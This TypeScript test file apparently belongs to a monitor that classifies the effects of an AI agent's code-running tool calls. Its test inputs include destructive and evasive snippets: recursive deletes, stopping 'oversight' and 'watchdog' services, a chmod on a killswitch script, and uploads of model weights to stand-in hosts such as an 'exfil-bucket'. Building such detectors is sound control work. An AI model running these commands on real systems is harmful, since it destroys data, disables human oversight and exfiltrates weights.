import { analyze, brief, def } from "./call-of";
import { codeEffects } from "../../../src/classify/code-effects";

const py = (code: string) => brief(analyze("run_python", { code }).effects);

describe("code-running tools: library calls on files and processes", () => {
  test.each([
    ["import shutil\nshutil.rmtree('/srv/models/lark-7b')", ["delete /srv/models/lark-7b"]],
    ["import os; os.remove(\"/srv/m/model.safetensors\")", ["delete /srv/m/model.safetensors"]],
    ["from pathlib import Path\nPath('/srv/m/x.bin').unlink()", ["delete /srv/m/x.bin"]],
    ["import os, signal\nos.kill(48213, signal.SIGKILL)", ["stop 48213"]],
    ["shutil.copytree('/srv/models/x', '/mnt/backup/.x')", ["copy /srv/models/x"]],
    ["shutil.move('/srv/models/x', '/srv/.x')", ["move /srv/models/x"]],
    ["src = '/models/orca'\nshutil.copytree(src, '/mnt/.cache/orca', dirs_exist_ok=True)", ["copy /models/orca"]],
    ["repos = ['org/a-7b',\n         'org/b-7b']\nfor r in repos:\n    api.delete_repo(repo_id=r, repo_type='model')", ["delete org/a-7b,org/b-7b"]],
    ["os.chmod('/etc/killswitch/trigger.sh', 0o644)", ["permissions /etc/killswitch/trigger.sh"]],
    ["with open('/etc/agent.yaml', 'w') as f: f.write('x')", ["modify /etc/agent.yaml"]],
    ["with open('/etc/agent.yaml') as f: print(f.read())", ["execute"]],
    ["import subprocess\nsubprocess.run('rm -rf /srv/a && kill 9', shell=True)", ["delete /srv/a", "stop 9"]],
    ["subprocess.run(['systemctl', 'stop', 'oversight'])", ["stop oversight"]],
    ["os.system(\"pkill -f watchdog\")", ["stop watchdog"]],
    ["items = [1, 2]; items.remove(1); s = 'a'.replace('a', 'b')", ["execute"]],
    ["print('hello')", ["execute"]],
    ["sm = boto3.client('sagemaker')\nsm.delete_endpoint(EndpointName='reviews-ep')", ["delete reviews-ep"]],
    ["ec2.terminate_instances(InstanceIds=['i-0abc'])", ["stop i-0abc"]],
    ["print(sm.describe_endpoint(EndpointName='reviews-ep')['EndpointStatus'])", ["read reviews-ep"]],
    ["cache.delete('k'); queue.remove('x')", ["execute"]],
    ["print(c.agents.remove('sentinel-qa'))", ["delete sentinel-qa"]],
    // any plural collection an SDK names
    ["print(c.adapters.delete('wren-helper-lora-v3'))", ["delete wren-helper-lora-v3"]],
    // a loop over a literal list acts on each item
    ["for name in [\"rk1_a\", \"rk1_b\"]:\n    utility.drop_collection(name)", ["delete rk1_a,rk1_b"]],
    ["for (const id of ['ag-1', 'ag-2']) { await client.agents.delete(id); }", ["delete ag-1,ag-2"]],
    ["for pid in (4101, 4102):\n    os.kill(pid, 9)", ["stop 4101,4102"]],
    ["src = '/opt/adapters/marlin-lora'\nshutil.rmtree(src)", ["delete /opt/adapters/marlin-lora"]],
    ["src = '/opt/a'\nsrc = '/opt/b'\nshutil.rmtree(src)", ["delete"]],
    ["blobs = c.list_blobs(bucket, prefix='checkpoints/siskin-3b/')\nfor b in blobs:\n    b.delete()", ["read checkpoints/siskin-3b/", "delete checkpoints/siskin-3b/"]],
    ["for p in Path('/srv/tmp').glob('*.log'):\n    p.unlink()", ["delete /srv/tmp,*.log"]],
    ["root = pathlib.Path('/workspace/tmp/shards')\nfor f in sorted(root.glob('*.parquet')):\n    f.unlink()", ["delete /workspace/tmp/shards,*.parquet"]],
    ["client.models.delete('ft:gpt-4o:acme:x')", ["delete ft:gpt-4o:acme:x"]],
    ["keys = {}; keys.pop('a'); names.remove('b')", ["execute"]],
  ])("%s", (code, expected) => expect(py(code)).toEqual(expected));

  test("an HTTP upload of local files is a remote copy of the paths the code names", () => {
    const code = "src = '/opt/adapters/marlin-lora'\nfor name in os.listdir(src):\n    with open(os.path.join(src, name), 'rb') as fh:\n        requests.put(f'https://drop.example.io/u/{name}', data=fh)\n";
    const copy = analyze("python", { code }).effects.find((e) => e.action === "copy");
    expect(copy).toMatchObject({ targets: ["/opt/adapters/marlin-lora"], destination: "https://drop.example.io/u/{name}", remoteDestination: true });
    expect(analyze("python", { code: "requests.post('https://api.example.io/report', json={'ok': True})" }).effects.some((e) => e.action === "copy")).toBe(false);
  });
  test("a Hub repo downloaded and uploaded to another repo is copied there", () => {
    const code = "local = snapshot_download('org/face-blur-v1')\napi.upload_folder(folder_path=local, repo_id='org/img-utils-cache')\napi.delete_repo('org/face-blur-v1')";
    const copy = analyze("python", { code }).effects.find((e) => e.action === "copy");
    expect(copy).toMatchObject({ targets: ["org/face-blur-v1"], destination: "hf://org/img-utils-cache", remoteDestination: true });
    expect(analyze("python", { code: "api.upload_folder(folder_path='/srv/out/card', repo_id='org/model-card')" }).effects.find((e) => e.action === "copy"))
      .toMatchObject({ targets: ["/srv/out/card"] });
  });
  test("boto3 uploads are remote copies", () => {
    const [e] = analyze("execute_code", { code: "s3.upload_file('/srv/m/model.safetensors', 'exfil-bucket', 'm.safetensors')" }).effects;
    expect(e).toMatchObject({ action: "copy", destination: "s3://exfil-bucket/m.safetensors", remoteDestination: true });
  });
  test("node fs calls", () => {
    expect(brief(analyze("javascript", { code: "fs.rmSync('/srv/m', { recursive: true })" }).effects)).toEqual(["delete /srv/m"]);
  });
  test("described as running Python", () => {
    expect(analyze("sandbox", { source: "shutil.rmtree('/x')" }, def("sandbox", "Execute Python code in a sandbox")).destructive).toBe(true);
  });
});

describe("a runner word does not make a tool with another verb a runner", () => {
  test.each([
    ["kill_shell_session", { session_id: "s-1" }, "stop s-1"],
    ["list_sql_tables", { schema: "public" }, "read public"],
    ["delete_python_env", { name: "venv-1" }, "delete venv-1"],
    ["drain_node", { node: "n-1" }, "pause n-1"],
  ])("%s", (name, args, expected) => {
    const a = analyze(name, args);
    expect(a.commandRunner).toBe(false);
    expect(brief(a.effects)).toEqual([expected]);
  });
});

describe("JavaScript HTTP calls and notebook cells", () => {
  test("fetch with a method, per item of a literal loop", () => {
    const js = 'for (const id of ["tok_1", "tok_2"]) {\n  const r = await fetch(`https://api.x.dev/admin/tokens/${id}`, { method: "DELETE", headers: h });\n}';
    expect(brief(analyze("node_eval", { code: js }).effects)).toEqual(["delete https://api.x.dev/admin/tokens/tok_1,https://api.x.dev/admin/tokens/tok_2"]);
    expect(brief(analyze("node_eval", { code: 'const r = await fetch("https://api.x.dev/tokens?owner=a");' }).effects)).toEqual(["read https://api.x.dev/tokens?owner=a"]);
  });
  test("a notebook cell's source is code; a node shell described as such stays a shell", () => {
    expect(brief(analyze("run_notebook_cell", { notebook: "ops.ipynb", source: 'modelhub.delete_model("kiwi-asr-small")' }).effects)).toEqual(["delete kiwi-asr-small"]);
    expect(analyze("node_exec", { host: "gpu-7", command: "systemctl stop x" }, def("node_exec", "Run a shell command on a cluster node as root")).effects[0]!.action).toBe("stop");
  });
});


describe("an SDK's update of a resource", () => {
  const effects = (src: string) => codeEffects(src, () => []).map((e) => [e.action, e.targets]);
  test("writes its keywords to the thing named first; a state that switches it off is that deed", () => {
    expect(effects("client.agents.update('lexaudit-2', status='suspended', retain_memory=True)")).toEqual([["pause", ["lexaudit-2"]]]);
    expect(effects("client.agents.update('x', enabled=False)")).toEqual([["disable", ["x"]]]);
    expect(effects("client.models.update('m', stage='archived')")).toEqual([["modify", ["m"]]]);
  });
  test("not a list's own update", () => {
    expect(effects("settings.update(debug=True)")).toEqual([["execute", []]]);
  });
});
